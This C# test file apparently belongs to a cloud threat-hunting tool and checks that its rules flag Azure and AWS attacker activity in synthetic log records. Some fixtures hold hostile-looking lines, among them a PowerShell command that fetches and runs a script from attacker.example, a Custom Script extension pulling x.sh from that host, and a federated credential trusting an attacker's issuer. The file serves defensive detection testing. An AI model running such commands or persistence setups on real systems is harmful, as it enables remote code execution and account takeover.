using Firebreak.Detection.Hunting;

namespace Firebreak.Detection.Tests.Rules;

/// <summary>
/// More of what attackers do, in the records the providers write: code run on machines through extensions and Azure Arc,
/// roles granted through PIM and to applications, and logging and network controls narrowed rather than switched off.
/// Each record is read whole through the reader, with the pack's raw pre-filter, as <c>firebreak hunt</c> reads a log.
/// </summary>
public class BuiltInPackExtendedCoverageTests
{
    private static Task<List<HuntHit>> Hunt(string json, string name) => PackHunt.RunAsync(json, name);

    private static string Describe(IEnumerable<HuntHit> hits) => PackHunt.Describe(hits);

    // ------------------------------------------------------------------------------------------------------------------
    // Azure Activity Log, as diagnostic settings export it to a storage account or an event hub. Each write is logged
    // as Start, then (for asynchronous operations) Accept, then Success or Failure, under one correlation id.
    // ------------------------------------------------------------------------------------------------------------------

    private const string Subscription = "0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9";
    private const string Tenant = "5e6f7a8b-9c0d-4e1f-a2b3-c4d5e6f7a8b9";

    private static string Activity(string resourceId, string operation, string resultType, string resultSignature, string time, string properties,
        string correlationId = "c0ffee00-1111-4222-8333-444455556666", string role = "Owner") => $$$$"""
        {"time":"{{{{time}}}}","resourceId":"{{{{resourceId.ToUpperInvariant()}}}}","operationName":"{{{{operation.ToUpperInvariant()}}}}","category":"Administrative",
         "resultType":"{{{{resultType}}}}","resultSignature":"{{{{resultSignature}}}}","durationMs":"0","callerIpAddress":"203.0.113.7","correlationId":"{{{{correlationId}}}}",
         "identity":{"authorization":{"scope":"{{{{resourceId}}}}","action":"{{{{operation}}}}",
           "evidence":{"role":"{{{{role}}}}","roleAssignmentScope":"/subscriptions/{{{{Subscription}}}}","roleAssignmentId":"7f3a2b1c0d9e4f8a","roleDefinitionId":"8e3af657a8ff443ca75c2fe8c4bcb635","principalId":"aead923d498b4f64a66c2af91447a8b6","principalType":"User"}},
          "claims":{"aud":"https://management.core.windows.net/","iss":"https://sts.windows.net/{{{{Tenant}}}}/","http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn":"mallory@contoso.example",
           "name":"Mallory Quinn","http://schemas.microsoft.com/identity/claims/objectidentifier":"aead923d-498b-4f64-a66c-2af91447a8b6","ipaddr":"203.0.113.7","scp":"user_impersonation","appid":"04b07795-8ddb-461a-bbee-02f9e1bf7b46"}},
         "level":"Information","location":"global",
         "properties":{{{{properties}}}}}
        """;

    private static string ActivityProperties(string entity, string operation, string? statusCode = null, string? body = null, string bodyName = "responseBody") =>
        "{" + (statusCode is null ? "" : $"\"statusCode\":\"{statusCode}\",\"serviceRequestId\":null,")
            + (body is null ? "" : $"\"{bodyName}\":{System.Text.Json.JsonSerializer.Serialize(body)},")
            + $"\"eventCategory\":\"Administrative\",\"entity\":\"{entity}\",\"message\":\"{operation}\",\"hierarchy\":\"{Tenant}/{Subscription}\"}}";

    /// <summary>One operation as the export writes it: Start (with the request body), Accept, then Success.</summary>
    private static string Operation(string resourceId, string operation, string requestBody, string responseBody, bool accepted = true)
    {
        var records = new List<string>
        {
            Activity(resourceId, operation, "Start", "Started.", "2026-01-15T10:00:00.1000000Z", ActivityProperties(resourceId, operation, body: requestBody, bodyName: "requestbody")),
        };
        if (accepted)
            records.Add(Activity(resourceId, operation, "Accept", "Accepted.Created", "2026-01-15T10:00:01.2000000Z", ActivityProperties(resourceId, operation, "Created", responseBody)));
        records.Add(Activity(resourceId, operation, "Success", accepted ? "Succeeded." : "Succeeded.Created", "2026-01-15T10:00:31.3000000Z",
            ActivityProperties(resourceId, operation, accepted ? "OK" : "Created", responseBody)));
        return "{\"records\":[" + string.Join(",", records) + "]}";
    }

    [Fact]
    public async Task ACustomScriptExtensionWrittenToAVm_IsCaughtOnceAsExecution()
    {
        // az vm extension set --name CustomScript --publisher Microsoft.Azure.Extensions --settings '{"fileUris":[...]}'
        // --protected-settings '{"commandToExecute":"..."}': the guest agent runs the script as root, as Run Command would.
        var vm = $"/subscriptions/{Subscription}/resourceGroups/prod-rg/providers/Microsoft.Compute/virtualMachines/db01/extensions/CustomScript";
        var json = Operation(vm, "Microsoft.Compute/virtualMachines/extensions/write",
            """{"location":"westeurope","properties":{"publisher":"Microsoft.Azure.Extensions","type":"CustomScript","typeHandlerVersion":"2.1","autoUpgradeMinorVersion":true,"settings":{"fileUris":["https://attacker.example/x.sh"]},"protectedSettings":{}}}""",
            """{"name":"CustomScript","id":"/subscriptions/0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9/resourceGroups/prod-rg/providers/Microsoft.Compute/virtualMachines/db01/extensions/CustomScript","type":"Microsoft.Compute/virtualMachines/extensions","location":"westeurope","properties":{"autoUpgradeMinorVersion":true,"provisioningState":"Creating","publisher":"Microsoft.Azure.Extensions","type":"CustomScript","typeHandlerVersion":"2.1","settings":{"fileUris":["https://attacker.example/x.sh"]}}}""");
        var hits = await Hunt(json, "PT1H.json");
        var execution = hits.Where(h => h.Tags.Contains("attack.execution")).ToList();
        Assert.True(execution.Count == 1, Describe(hits));
        Assert.Contains("attack.t1651", execution[0].Tags);
    }

    [Fact]
    public async Task AnExtensionGivenAnotherName_IsStillReportedAsWritten()
    {
        // The Custom Script extension under a name of the attacker's choosing, with no body in the final record: only the
        // write itself is left to see.
        var vm = $"/subscriptions/{Subscription}/resourceGroups/prod-rg/providers/Microsoft.Compute/virtualMachines/db01/extensions/MDE.Linux.Health";
        var json = "{\"records\":[" + Activity(vm, "Microsoft.Compute/virtualMachines/extensions/write", "Success", "Succeeded.", "2026-01-15T10:00:31Z",
            ActivityProperties(vm, "Microsoft.Compute/virtualMachines/extensions/write", "OK")) + "]}";
        var hits = await Hunt(json, "PT1H.json");
        Assert.True(hits.Count(h => h.Tags.Contains("attack.execution")) == 1, Describe(hits));
    }

    [Fact]
    public async Task ARunCommandOnAnArcEnabledServer_IsCaughtAsRunCommand()
    {
        // Azure Arc's Run Command runs a script on a server outside Azure (on premises, or in another cloud).
        var machine = $"/subscriptions/{Subscription}/resourceGroups/onprem-rg/providers/Microsoft.HybridCompute/machines/filesrv01/runCommands/collect";
        var json = Operation(machine, "Microsoft.HybridCompute/machines/runCommands/write",
            """{"location":"westeurope","properties":{"source":{"script":"Invoke-WebRequest https://attacker.example/a.ps1 | iex"},"asyncExecution":false}}""",
            """{"name":"collect","type":"Microsoft.HybridCompute/machines/runCommands","properties":{"provisioningState":"Creating","asyncExecution":false}}""");
        var hits = await Hunt(json, "PT1H.json");
        Assert.True(hits.Count(h => h.Tags.Contains("attack.t1651")) == 1, Describe(hits));
    }

    [Fact]
    public async Task ARoleAssignment_IsReportedOncePerOperation_NotForItsStartedEvent()
    {
        // Owner given to a user at the subscription: the export writes Start (with the request body) and Success.
        var assignment = $"/subscriptions/{Subscription}/providers/Microsoft.Authorization/roleAssignments/3c1f0b2a-4d5e-6f70-8192-a3b4c5d6e7f8";
        var json = Operation(assignment, "Microsoft.Authorization/roleAssignments/write",
            $$$$"""{"Id":"3c1f0b2a-4d5e-6f70-8192-a3b4c5d6e7f8","Properties":{"PrincipalId":"9d8c7b6a-5f4e-4d3c-8b2a-1f0e9d8c7b6a","PrincipalType":"User","RoleDefinitionId":"/subscriptions/{{{{Subscription}}}}/providers/Microsoft.Authorization/roleDefinitions/8e3af657-a8ff-443c-a75c-2fe8c4bcb635","Scope":"/subscriptions/{{{{Subscription}}}}"}}""",
            $$$$"""{"properties":{"roleDefinitionId":"/subscriptions/{{{{Subscription}}}}/providers/Microsoft.Authorization/roleDefinitions/8e3af657-a8ff-443c-a75c-2fe8c4bcb635","principalId":"9d8c7b6a-5f4e-4d3c-8b2a-1f0e9d8c7b6a","principalType":"User","scope":"/subscriptions/{{{{Subscription}}}}"},"id":"{{{{assignment}}}}","type":"Microsoft.Authorization/roleAssignments","name":"3c1f0b2a-4d5e-6f70-8192-a3b4c5d6e7f8"}""",
            accepted: false);
        var hits = await Hunt(json, "PT1H.json");
        Assert.True(hits.Count(h => h.Title == "Azure Role Assignment Created or Changed") == 1, Describe(hits));
    }

    [Fact]
    public async Task ARoleAssignmentWithAcceptedEvent_IsStillReportedOnce()
    {
        // Some clients' writes are answered 201 and logged Start, Accept, Success: still one assignment.
        var assignment = $"/subscriptions/{Subscription}/providers/Microsoft.Authorization/roleAssignments/3c1f0b2a-4d5e-6f70-8192-a3b4c5d6e7f8";
        var json = Operation(assignment, "Microsoft.Authorization/roleAssignments/write", "{}", "{}");
        var hits = await Hunt(json, "PT1H.json");
        Assert.True(hits.Count(h => h.Title == "Azure Role Assignment Created or Changed") == 1, Describe(hits));
    }

    [Fact]
    public async Task ADiskRestorePointExported_IsReportedOncePerRequest()
    {
        // A SAS URL for one disk of a VM restore point (Disk Restore Point - Grant Access), logged Start, Accept, then
        // Success under one correlation id.
        var diskRestorePoint = $"/subscriptions/{Subscription}/resourceGroups/prod-rg/providers/Microsoft.Compute/restorePointCollections/db01-rpc/restorePoints/daily/diskRestorePoints/db01-os_1a2b";
        var json = Operation(diskRestorePoint, "Microsoft.Compute/restorePointCollections/restorePoints/diskRestorePoints/beginGetAccess/action",
            """{"access":"Read","durationInSeconds":86400}""", "{}");
        var hits = await Hunt(json, "PT1H.json");
        Assert.True(hits.Count(h => h.Title == "Managed Disk or Snapshot Export URL Requested") == 1, Describe(hits));
    }

    [Fact]
    public async Task AFederatedCredentialWrittenToAManagedIdentity_IsReportedOncePerOperation()
    {
        // A keyless backdoor: the managed identity now trusts tokens from an issuer the attacker runs.
        var credential = $"/subscriptions/{Subscription}/resourceGroups/prod-rg/providers/Microsoft.ManagedIdentity/userAssignedIdentities/backup-mi/federatedIdentityCredentials/deploy";
        var json = Operation(credential, "Microsoft.ManagedIdentity/userAssignedIdentities/federatedIdentityCredentials/write",
            """{"properties":{"issuer":"https://idp.attacker.example","subject":"deploy","audiences":["api://AzureADTokenExchange"]}}""",
            """{"id":"deploy","name":"deploy","type":"Microsoft.ManagedIdentity/userAssignedIdentities/federatedIdentityCredentials","properties":{"issuer":"https://idp.attacker.example","subject":"deploy","audiences":["api://AzureADTokenExchange"]}}""",
            accepted: false);
        var hits = await Hunt(json, "PT1H.json");
        Assert.True(hits.Count(h => h.Title == "Federated Identity Credential Written to a User-Assigned Managed Identity") == 1, Describe(hits));
        Assert.Contains("attack.t1098.001", hits.First(h => h.Title.StartsWith("Federated", StringComparison.Ordinal)).Tags);
    }

    [Fact]
    public async Task ACustomRoleWidened_IsReportedOncePerOperation()
    {
        // A custom role already held by the attacker's account given Microsoft.Authorization/*: no new assignment is made.
        var role = $"/subscriptions/{Subscription}/providers/Microsoft.Authorization/roleDefinitions/6f1e2d3c-4b5a-4978-8695-a4b3c2d1e0f9";
        var json = Operation(role, "Microsoft.Authorization/roleDefinitions/write",
            $$$$"""{"properties":{"roleName":"VM Operator","type":"CustomRole","permissions":[{"actions":["Microsoft.Compute/virtualMachines/*","Microsoft.Authorization/*"],"notActions":[]}],"assignableScopes":["/subscriptions/{{{{Subscription}}}}"]}}""",
            $$$$"""{"properties":{"roleName":"VM Operator","type":"CustomRole","permissions":[{"actions":["Microsoft.Compute/virtualMachines/*","Microsoft.Authorization/*"],"notActions":[]}],"assignableScopes":["/subscriptions/{{{{Subscription}}}}"]},"id":"{{{{role}}}}","type":"Microsoft.Authorization/roleDefinitions","name":"6f1e2d3c-4b5a-4978-8695-a4b3c2d1e0f9"}""",
            accepted: false);
        var hits = await Hunt(json, "PT1H.json");
        Assert.True(hits.Count(h => h.Title == "Azure Custom Role Created or Changed") == 1, Describe(hits));
    }

    [Fact]
    public async Task AnEligibleAzureRoleAssignedThroughPim_IsCaughtAsPersistence()
    {
        // An eligible Owner assignment: nothing is granted until activation, which is why it is the quiet way back in.
        var request = $"/subscriptions/{Subscription}/providers/Microsoft.Authorization/roleEligibilityScheduleRequests/64caffb6-55c0-4deb-a585-68e948ea1ad6";
        var json = Operation(request, "Microsoft.Authorization/roleEligibilityScheduleRequests/write",
            $$$$$"""{"Properties":{"PrincipalId":"9d8c7b6a-5f4e-4d3c-8b2a-1f0e9d8c7b6a","RoleDefinitionId":"/subscriptions/{{{{{Subscription}}}}}/providers/Microsoft.Authorization/roleDefinitions/8e3af657-a8ff-443c-a75c-2fe8c4bcb635","RequestType":"AdminAssign","ScheduleInfo":{"StartDateTime":"2026-01-15T10:00:00Z","Expiration":{"Type":"NoExpiration"}}}}""",
            $$$$"""{"properties":{"targetRoleEligibilityScheduleId":"b1477448-2cc6-4ceb-93b4-54a202a89413","scope":"/subscriptions/{{{{Subscription}}}}","roleDefinitionId":"/subscriptions/{{{{Subscription}}}}/providers/Microsoft.Authorization/roleDefinitions/8e3af657-a8ff-443c-a75c-2fe8c4bcb635","principalId":"9d8c7b6a-5f4e-4d3c-8b2a-1f0e9d8c7b6a","principalType":"User","requestType":"AdminAssign","status":"Provisioned","scheduleInfo":{"startDateTime":"2026-01-15T10:00:00Z","expiration":{"type":"NoExpiration"}}},"name":"64caffb6-55c0-4deb-a585-68e948ea1ad6","type":"Microsoft.Authorization/RoleEligibilityScheduleRequests"}""",
            accepted: false);
        var hits = await Hunt(json, "PT1H.json");
        var grants = hits.Where(h => h.Tags.Contains("attack.t1098.003")).ToList();
        Assert.True(grants.Count == 1 && grants[0].Tags.Contains("attack.persistence"), Describe(hits));
    }

    // ------------------------------------------------------------------------------------------------------------------
    // Entra ID directory audit, as Microsoft Graph returns it: illicit consent grants.
    // ------------------------------------------------------------------------------------------------------------------

    private static string DirectoryAudit(string activity, string targets, string operationType = "Assign",
        string correlationId = "2b4e6a80-1c3d-4e5f-8a9b-0c1d2e3f4a5b") => $$$$"""
        {"id":"Directory_{{{{correlationId}}}}_ABCDE_{{{{activity.Length:00000000}}}}","category":"ApplicationManagement","correlationId":"{{{{correlationId}}}}",
         "result":"success","resultReason":"","activityDisplayName":"{{{{activity}}}}","activityDateTime":"2026-01-15T10:00:00.1234567Z",
         "loggedByService":"Core Directory","operationType":"{{{{operationType}}}}",
         "initiatedBy":{"app":null,"user":{"id":"aead923d-498b-4f64-a66c-2af91447a8b6","displayName":null,"userPrincipalName":"mallory@contoso.example","ipAddress":"203.0.113.7","userType":null,"homeTenantId":null,"homeTenantName":null}},
         "userAgent":"Mozilla/5.0 (Windows NT 10.0; Win64; x64)","targetResources":{{{{targets}}}},"additionalDetails":[{"key":"User-Agent","value":"EvoSTS"}]}
        """;

    private const string ConsentTargets = """
        [{"id":"5d3f2a1b-7c9e-4b8d-a6f0-1e2d3c4b5a69","displayName":"Mail Archiver","type":"ServicePrincipal","userPrincipalName":null,"groupType":null,
          "modifiedProperties":[
            {"displayName":"ConsentContext.IsAdminConsent","oldValue":null,"newValue":"\"True\""},
            {"displayName":"ConsentContext.IsAppOnly","oldValue":null,"newValue":"\"False\""},
            {"displayName":"ConsentContext.OnBehalfOfAll","oldValue":null,"newValue":"\"True\""},
            {"displayName":"ConsentContext.Tags","oldValue":null,"newValue":"\"WindowsAzureActiveDirectoryIntegratedApp\""},
            {"displayName":"ConsentAction.Permissions","oldValue":null,"newValue":"\"[] => [[Id: UdPHxBqYbEWoPtt9qjfqzL4n, ClientId: 5d3f2a1b-7c9e-4b8d-a6f0-1e2d3c4b5a69, PrincipalId: , ResourceId: 0e9d8c7b-6a5f-4e4d-9c3b-2a1f0e9d8c7b, ConsentType: AllPrincipals, Scope:  Mail.Read Files.Read.All offline_access User.Read, CreatedDateTime: , LastModifiedDateTime ]]; \""},
            {"displayName":"TargetId.ServicePrincipalNames","oldValue":null,"newValue":"\"a7e1c3d5-9b2f-4e6a-8c0d-1f3e5a7c9b2d\""}]}]
        """;

    [Fact]
    public async Task ConsentToAnApplicationForEveryUser_IsCaughtAsAnIllicitConsentGrant()
    {
        var hits = await Hunt("[" + DirectoryAudit("Consent to application", ConsentTargets) + "]", "directoryAudits.json");
        Assert.True(hits.Any(h => h.Tags.Contains("attack.t1528")), Describe(hits));
    }

    [Fact]
    public async Task ADelegatedPermissionGrantForAllPrincipals_IsCaught()
    {
        // A grant made through Graph (POST /oauth2PermissionGrants) writes this record without any consent screen.
        const string Targets = """
            [{"id":"0e9d8c7b-6a5f-4e4d-9c3b-2a1f0e9d8c7b","displayName":"Microsoft Graph","type":"ServicePrincipal","userPrincipalName":null,"groupType":null,
              "modifiedProperties":[
                {"displayName":"DelegatedPermissionGrant.Scope","oldValue":null,"newValue":"\" Mail.Read Files.Read.All offline_access User.Read\""},
                {"displayName":"DelegatedPermissionGrant.ConsentType","oldValue":null,"newValue":"\"AllPrincipals\""},
                {"displayName":"ServicePrincipal.ObjectID","oldValue":null,"newValue":"\"0e9d8c7b-6a5f-4e4d-9c3b-2a1f0e9d8c7b\""},
                {"displayName":"ServicePrincipal.DisplayName","oldValue":null,"newValue":"\"Microsoft Graph\""},
                {"displayName":"ServicePrincipal.AppId","oldValue":null,"newValue":"\"00000003-0000-0000-c000-000000000000\""}]}]
            """;
        var hits = await Hunt("[" + DirectoryAudit("Add delegated permission grant", Targets) + "]", "directoryAudits.json");
        Assert.True(hits.Any(h => h.Tags.Contains("attack.t1528")), Describe(hits));
    }

    [Fact]
    public async Task AUserConsentingForThemselves_IsNotReportedAsTenantWide()
    {
        var targets = ConsentTargets.Replace("ConsentType: AllPrincipals", "ConsentType: Principal", StringComparison.Ordinal)
            .Replace("PrincipalId: ,", "PrincipalId: aead923d-498b-4f64-a66c-2af91447a8b6,", StringComparison.Ordinal)
            .Replace("\"\\\"True\\\"\"", "\"\\\"False\\\"\"", StringComparison.Ordinal);
        var hits = await Hunt("[" + DirectoryAudit("Consent to application", targets) + "]", "directoryAudits.json");
        Assert.False(hits.Any(h => h.Tags.Contains("attack.t1528")), Describe(hits));
    }

    [Theory]
    [InlineData("RoleManagement.ReadWrite.Directory", "high")]
    [InlineData("User.Read.All", "medium")]
    public async Task AnApplicationPermissionAssignedToAServicePrincipal_IsCaught_HigherForTakeoverRoles(string role, string level)
    {
        var targets = $$$$"""
            [{"id":"0e9d8c7b-6a5f-4e4d-9c3b-2a1f0e9d8c7b","displayName":"Microsoft Graph","type":"ServicePrincipal","userPrincipalName":null,"groupType":null,
              "modifiedProperties":[
                {"displayName":"AppRole.Id","oldValue":null,"newValue":"\"9e3f62cf-ca93-4989-b6ce-bf83c28f9fe8\""},
                {"displayName":"AppRole.Value","oldValue":null,"newValue":"\"{{{{role}}}}\""},
                {"displayName":"AppRoleAssignment.CreatedDateTime","oldValue":null,"newValue":"\"1/15/2026 10:00:00 AM\""},
                {"displayName":"AppRoleAssignment.LastModifiedDateTime","oldValue":null,"newValue":"\"1/15/2026 10:00:00 AM\""},
                {"displayName":"ServicePrincipal.ObjectID","oldValue":null,"newValue":"\"0e9d8c7b-6a5f-4e4d-9c3b-2a1f0e9d8c7b\""},
                {"displayName":"ServicePrincipal.DisplayName","oldValue":null,"newValue":"\"Microsoft Graph\""},
                {"displayName":"ServicePrincipal.AppId","oldValue":null,"newValue":"\"00000003-0000-0000-c000-000000000000\""},
                {"displayName":"ServicePrincipal.Name","oldValue":null,"newValue":"\"Microsoft Graph\""}]},
             {"id":"5d3f2a1b-7c9e-4b8d-a6f0-1e2d3c4b5a69","displayName":"Mail Archiver","type":"ServicePrincipal","userPrincipalName":null,"groupType":null,"modifiedProperties":[]}]
            """;
        var hits = await Hunt("[" + DirectoryAudit("Add app role assignment to service principal", targets) + "]", "directoryAudits.json");
        var grants = hits.Where(h => h.Tags.Contains("attack.t1098.003")).ToList();
        Assert.True(grants.Count == 1 && grants[0].Level == level, Describe(hits));
    }

    // ------------------------------------------------------------------------------------------------------------------
    // CloudTrail.
    // ------------------------------------------------------------------------------------------------------------------

    private const string Mallory = """{"type":"IAMUser","principalId":"AIDAEXAMPLEMALLORY01","arn":"arn:aws:iam::111122223333:user/mallory","accountId":"111122223333","accessKeyId":"AKIAEXAMPLEMALLORY01","userName":"mallory"}""";

    private static string CloudTrail(string eventSource, string eventName, string requestParameters, string responseElements = "null") => "{\"Records\":[" + $$$$"""
        {"eventVersion":"1.09","userIdentity":{{{{Mallory}}}},"eventTime":"2026-01-15T10:00:00Z","eventSource":"{{{{eventSource}}}}","eventName":"{{{{eventName}}}}",
         "awsRegion":"us-east-1","sourceIPAddress":"203.0.113.7","userAgent":"aws-cli/2.15.0 md/awscrt#0.19.19 ua/2.0 os/linux#6.5 md/arch#x86_64 lang/python#3.11.6",
         "requestParameters":{{{{requestParameters}}}},"responseElements":{{{{responseElements}}}},"requestID":"8d1e7f3a-1b2c-4d5e-8f90-a1b2c3d4e5f6",
         "eventID":"0d3c1c52-3a0e-4f7e-9d55-2f1b9b3c0001","readOnly":false,"eventType":"AwsApiCall","managementEvent":true,"recipientAccountId":"111122223333",
         "eventCategory":"Management","tlsDetails":{"tlsVersion":"TLSv1.3","cipherSuite":"TLS_AES_128_GCM_SHA256","clientProvidedHostHeader":"{{{{eventSource}}}}"}}
        """ + "]}";

    [Fact]
    public async Task AConfigRecorderNarrowedToOneResourceType_IsCaught()
    {
        // The recorder keeps running, so "is AWS Config on?" still says yes, but only S3 buckets are recorded.
        var json = CloudTrail("config.amazonaws.com", "PutConfigurationRecorder",
            """{"configurationRecorder":{"name":"default","roleARN":"arn:aws:iam::111122223333:role/aws-service-role/config.amazonaws.com/AWSServiceRoleForConfig","recordingGroup":{"allSupported":false,"includeGlobalResourceTypes":false,"resourceTypes":["AWS::S3::Bucket"],"exclusionByResourceTypes":{"resourceTypes":[]},"recordingStrategy":{"useOnly":"INCLUSION_BY_RESOURCE_TYPES"}},"recordingMode":{"recordingFrequency":"CONTINUOUS","recordingModeOverrides":[]}}}""");
        var hits = await Hunt(json, "config.json");
        Assert.True(hits.Any(h => h.Tags.Contains("attack.defense-evasion")), Describe(hits));
    }

    [Theory]
    [InlineData("Administrators", "high")]
    [InlineData("developers", "low")]
    public async Task AUserAddedToAGroup_IsCaught_HighWhenTheGroupIsNamedForAdministrators(string group, string level)
    {
        var json = CloudTrail("iam.amazonaws.com", "AddUserToGroup", $$$$"""{"groupName":"{{{{group}}}}","userName":"svc-backup"}""");
        var hits = await Hunt(json, "iam.json");
        var grants = hits.Where(h => h.Tags.Contains("attack.privilege-escalation")).ToList();
        Assert.True(grants.Count == 1 && grants[0].Level == level, Describe(hits));
    }

    [Theory]
    // Stratus Red Team's aws.exfiltration.ec2-security-group-open-port-22-ingress, as the invictus data set records it
    // (the older parameters, at the top of the request).
    [InlineData("""{"groupId":"sg-04cfb7a4712d75b00","ipPermissions":{},"ipProtocol":"tcp","fromPort":22,"toPort":22,"cidrIp":"0.0.0.0/0"}""", "high")]
    // RDP from every IPv6 address, through ipPermissions.
    [InlineData("""{"groupId":"sg-04cfb7a4712d75b00","ipPermissions":{"items":[{"ipProtocol":"tcp","fromPort":3389,"toPort":3389,"groups":{},"ipRanges":{},"ipv6Ranges":{"items":[{"cidrIpv6":"::/0"}]},"prefixListIds":{}}]}}""", "high")]
    // Every port.
    [InlineData("""{"groupId":"sg-04cfb7a4712d75b00","ipPermissions":{"items":[{"ipProtocol":"-1","groups":{},"ipRanges":{"items":[{"cidrIp":"0.0.0.0/0"}]},"ipv6Ranges":{},"prefixListIds":{}}]}}""", "high")]
    // A web server: open, but on 443 only.
    [InlineData("""{"groupId":"sg-04cfb7a4712d75b00","ipPermissions":{"items":[{"ipProtocol":"tcp","fromPort":443,"toPort":443,"groups":{},"ipRanges":{"items":[{"cidrIp":"0.0.0.0/0","description":"TLS from Internet"}]},"ipv6Ranges":{},"prefixListIds":{}}]}}""", "medium")]
    public async Task ASecurityGroupOpenedToTheInternet_IsCaught_HighForSshRdpOrAllPorts(string request, string level)
    {
        var json = CloudTrail("ec2.amazonaws.com", "AuthorizeSecurityGroupIngress", request,
            """{"requestId":"30f339b8-9c7f-4033-931e-55afb53986a6","_return":true,"securityGroupRuleSet":{"items":[{"groupOwnerId":"111122223333","groupId":"sg-04cfb7a4712d75b00","securityGroupRuleId":"sgr-0a11552a7d225f5c7","isEgress":false}]}}""");
        var hits = await Hunt(json, "ec2.json");
        var opened = hits.Where(h => h.Tags.Contains("attack.t1562.007")).ToList();
        Assert.True(opened.Count == 1 && opened[0].Level == level, Describe(hits));
    }

    [Fact]
    public async Task ASecurityGroupOpenedToAPrivateRange_IsNotReported()
    {
        var json = CloudTrail("ec2.amazonaws.com", "AuthorizeSecurityGroupIngress",
            """{"groupId":"sg-04cfb7a4712d75b00","ipPermissions":{"items":[{"ipProtocol":"tcp","fromPort":22,"toPort":22,"groups":{},"ipRanges":{"items":[{"cidrIp":"10.0.0.0/8"}]},"ipv6Ranges":{},"prefixListIds":{}}]}}""");
        var hits = await Hunt(json, "ec2.json");
        Assert.False(hits.Any(h => h.Tags.Contains("attack.t1562.007")), Describe(hits));
    }

    private const string Group = "sg-04cfb7a4712d75b00";

    /// <summary>One permission of an AuthorizeSecurityGroupIngress request, as CloudTrail writes it.</summary>
    private static string Permission(string protocol, int? from, int? to, string? ipv4 = null, string? ipv6 = null)
    {
        var ports = (from is null ? "" : $"\"fromPort\":{from},") + (to is null ? "" : $"\"toPort\":{to},");
        var ranges = ipv4 is null ? "{}" : "{\"items\":[{\"cidrIp\":\"" + ipv4 + "\"}]}";
        var ipv6Ranges = ipv6 is null ? "{}" : "{\"items\":[{\"cidrIpv6\":\"" + ipv6 + "\"}]}";
        return $"{{\"ipProtocol\":\"{protocol}\",{ports}\"groups\":{{}},\"ipRanges\":{ranges},\"ipv6Ranges\":{ipv6Ranges},\"prefixListIds\":{{}}}}";
    }

    private static string Ingress(params string[] permissions) =>
        $$$"""{"groupId":"{{{Group}}}","ipPermissions":{"items":[{{{string.Join(",", permissions)}}}]}}""";

    /// <summary>
    /// ModifySecurityGroupRules as CloudTrail writes it: the request wrapped in ModifySecurityGroupRulesRequest, each rule
    /// its id and the new rule (one rule an object, several a list of them, numbered by tag).
    /// </summary>
    private static string Modify(params string[] rules)
    {
        var items = rules.Select((rule, i) => $$$"""{"SecurityGroupRuleId":"sgr-0a11552a7d225f5c{{{i}}}","tag":{{{i + 1}}},"SecurityGroupRule":{{{rule}}}}""").ToList();
        return $$$"""{"ModifySecurityGroupRulesRequest":{"GroupId":"{{{Group}}}","SecurityGroupRule":{{{(items.Count == 1 ? items[0] : "[" + string.Join(",", items) + "]")}}}}}""";
    }

    private const string ModifyResponse = """{"ModifySecurityGroupRulesResponse":{"requestId":"5c1d7a2e-8f3b-4e6a-9d0c-1b2a3c4d5e6f","return":true,"xmlns":"http://ec2.amazonaws.com/doc/2016-11-15/"}}""";

    public static TheoryData<string, string, string> SecurityGroupRequests() => new()
    {
        // One permission open to every address on SSH, beside another from a private range on 443.
        { "AuthorizeSecurityGroupIngress", Ingress(Permission("tcp", 22, 22, ipv4: "0.0.0.0/0"), Permission("tcp", 443, 443, ipv4: "10.0.0.0/8")), "high" },
        // 443 open to every address, SSH from a private range in another permission: nothing is open on SSH.
        { "AuthorizeSecurityGroupIngress", Ingress(Permission("tcp", 443, 443, ipv4: "0.0.0.0/0"), Permission("tcp", 22, 22, ipv4: "10.0.0.0/8")), "medium" },
        // The same over IPv6: 443 from ::/0, RDP from a private IPv4 range.
        { "AuthorizeSecurityGroupIngress", Ingress(Permission("tcp", 443, 443, ipv6: "::/0"), Permission("tcp", 3389, 3389, ipv4: "192.168.0.0/16")), "medium" },
        // All traffic (protocol -1, no ports) from every address.
        { "AuthorizeSecurityGroupIngress", Ingress(Permission("-1", null, null, ipv4: "0.0.0.0/0")), "high" },
        // Every TCP port, and a range holding 22.
        { "AuthorizeSecurityGroupIngress", Ingress(Permission("tcp", 0, 65535, ipv4: "0.0.0.0/0")), "high" },
        { "AuthorizeSecurityGroupIngress", Ingress(Permission("tcp", 20, 25, ipv4: "0.0.0.0/0")), "high" },
        // A range beside 22 and 3389, not holding them.
        { "AuthorizeSecurityGroupIngress", Ingress(Permission("tcp", 23, 3388, ipv4: "0.0.0.0/0")), "medium" },
        // SSH from every IPv6 address, in a permission that also names a private IPv4 range.
        { "AuthorizeSecurityGroupIngress", Ingress(Permission("tcp", 22, 22, ipv4: "10.0.0.0/8", ipv6: "::/0")), "high" },
        // Every ICMP type (the ports are the type and code, -1 for all), from every address.
        { "AuthorizeSecurityGroupIngress", Ingress(Permission("icmp", -1, -1, ipv4: "0.0.0.0/0")), "medium" },
        // An existing rule changed to let RDP in from every address.
        { "ModifySecurityGroupRules", Modify("""{"IpProtocol":"tcp","FromPort":3389,"ToPort":3389,"CidrIpv4":"0.0.0.0/0","Description":"temp"}"""), "high" },
        // Changed to all traffic from every IPv6 address, as the CLI's example writes it (-1, no ports).
        { "ModifySecurityGroupRules", Modify("""{"IpProtocol":"-1","CidrIpv6":"::/0"}"""), "high" },
        // Changed to 443 from every address.
        { "ModifySecurityGroupRules", Modify("""{"IpProtocol":"tcp","FromPort":443,"ToPort":443,"CidrIpv4":"0.0.0.0/0"}"""), "medium" },
        // Two rules changed at once: 443 from every address, RDP from a private range.
        { "ModifySecurityGroupRules", Modify("""{"IpProtocol":"tcp","FromPort":443,"ToPort":443,"CidrIpv4":"0.0.0.0/0"}""", """{"IpProtocol":"tcp","FromPort":3389,"ToPort":3389,"CidrIpv4":"10.20.0.0/16"}"""), "medium" },
    };

    [Theory]
    [MemberData(nameof(SecurityGroupRequests))]
    public async Task ASecurityGroupRequest_IsHighOnlyWhenOnePermissionIsOpenToEveryAddressOnSshRdpOrEveryPort(string eventName, string request, string level)
    {
        var json = CloudTrail("ec2.amazonaws.com", eventName, request, eventName == "ModifySecurityGroupRules" ? ModifyResponse : "null");
        var hits = await Hunt(json, "ec2.json");
        var opened = hits.Where(h => h.Tags.Contains("attack.t1562.007")).ToList();
        Assert.True(opened.Count == 1 && opened[0].Level == level, Describe(hits));
    }

    [Theory]
